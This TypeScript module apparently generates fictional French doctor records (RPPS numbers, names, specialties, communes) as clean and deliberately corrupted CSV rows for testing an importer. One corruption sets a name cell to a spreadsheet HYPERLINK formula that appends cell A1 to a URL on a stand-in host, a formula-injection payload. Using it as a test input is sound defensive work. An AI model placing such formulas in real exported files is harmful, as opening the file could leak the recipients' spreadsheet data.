import { SPECIALTIES, SPECIALTY_CODES } from '#lib/senior-doctors/specialty.catalogue.ts';
import { keyOf } from '#lib/senior-doctors/rpps.rules.ts';

/** Files of fictional doctors, clean and dirty, the same for the same seed. Names are made up, RPPS numbers begin with 99. */

const BEGINNINGS = [
	'Bré',
	'Cal',
	'Dau',
	'Fer',
	'Gar',
	'Hél',
	'Lam',
	'Mon',
	'Nor',
	'Per',
	'Rou',
	'Sal',
	'Tri',
	'Val',
	'Esc',
];
const ENDINGS = [
	'bard',
	'celin',
	'douin',
	'ferrac',
	'lhaume',
	'mareux',
	'nquet',
	'tonnel',
	'vigneul',
	'quière',
	'broux',
	'pétel',
];
const FIRST_NAMES = [
	'Odile',
	'Hervé',
	'Agnès',
	'Yves',
	'Nadia',
	'Karim',
	'Marie-Noëlle',
	'Jean-Pierre',
	'Françoise',
	'Rémy',
];
const SPECIALTY_NAMES = SPECIALTY_CODES.slice(0, 12).map((code) => SPECIALTIES[code]);

export const DOCTOR_TITLES = [
	...['RPPS', 'Nom', 'Prénom', 'Année naissance', 'Spécialité', 'Mode d’exercice', 'Secteur'],
	...['Code commune', 'Commune', 'Tel', 'Départ envisagé', 'MSU', 'Observations'],
];

export interface FileCommune {
	code: string;
	name: string;
}

/** Numbers from 0 up to 1, the same for the same seed. */
export function seeded(seed: number): () => number {
	let state = seed >>> 0;
	return () => {
		state = (state + 0x6d2b79f5) >>> 0;
		let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
		mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
		return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
	};
}

/** Rows of doctors, all of them right. */
export function doctorRows(count: number, communes: readonly FileCommune[], seed = 1): string[][] {
	const random = seeded(seed);
	const pick = <Value>(list: readonly Value[]): Value => list[Math.floor(random() * list.length)] as Value;
	return Array.from({ length: count }, (_, at) => {
		const digits = `99${String(seed % 1_000).padStart(3, '0')}${String(at + 1).padStart(5, '0')}`;
		const commune = pick(communes);
		return [
			digits + keyOf(digits),
			`${pick(BEGINNINGS)}${pick(['', 'ba', 'ci', 'do', 'le'])}${pick(ENDINGS)}`,
			pick(FIRST_NAMES),
			String(1940 + Math.floor(random() * 26)),
			pick(SPECIALTY_NAMES),
			pick(['libéral seul', 'MSP', 'hôpital', 'mixte', 'centre de santé']),
			pick(['1', '2', '2-optam', 'sans objet']),
			commune.code,
			commune.name,
			`05 59 ${String(at % 100).padStart(2, '0')} 00 77`,
			pick(['2027', 'été 28', '?', '']),
			pick(['oui', 'non', '']),
			'texte libre',
		];
	});
}

/** The kinds of dirt, each in a cell of its own; the repeated row is added at the end. */
const DIRT: readonly ((row: string[], random: () => number) => void)[] = [
	(row) => (row[3] = '03/14/1951'),
	(row) => (row[3] = 'soixante'),
	(row) => (row[7] = '99999'),
	(row) => (row[0] = `${row[0]?.slice(0, 10)}${(Number(row[0]?.[10]) + 1) % 10}`),
	(row) => (row[0] = '9910048'),
	(row) => (row[1] = '=HYPERLINK("http://exemple.invalid/?v="&A1;"ouvrir")'),
	(row) => (row[1] = ''),
	(row) => (row[1] = Buffer.from(`É${row[1]}`, 'utf8').toString('latin1')),
	(row) => (row[3] = '2019'),
	(row) => (row[9] = '12'),
	(row) => (row[4] = 'Druidisme'),
];

/** Makes some rows wrong, one in so many. @returns the lines that are, and the rows */
export function dirty(rows: readonly string[][], every: number): { rows: string[][]; wrong: number[] } {
	const random = seeded(every);
	const wrong: number[] = [];
	const made = rows.map((row, at) => {
		const copy = row.map((cell) => (at % 7 === 0 ? ` ${cell}\u00a0` : cell));
		if (at % every !== every - 1) return copy;
		DIRT[Math.floor(at / every) % DIRT.length]?.(copy, random);
		wrong.push(at + 2);
		return copy;
	});
	return { rows: made, wrong };
}

export function csvOf(rows: readonly (readonly string[])[], separator = ';', end = '\r\n'): string {
	const cell = (text: string): string =>
		text.includes(separator) || /["\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
	return rows.map((row) => row.map(cell).join(separator) + end).join('');
}
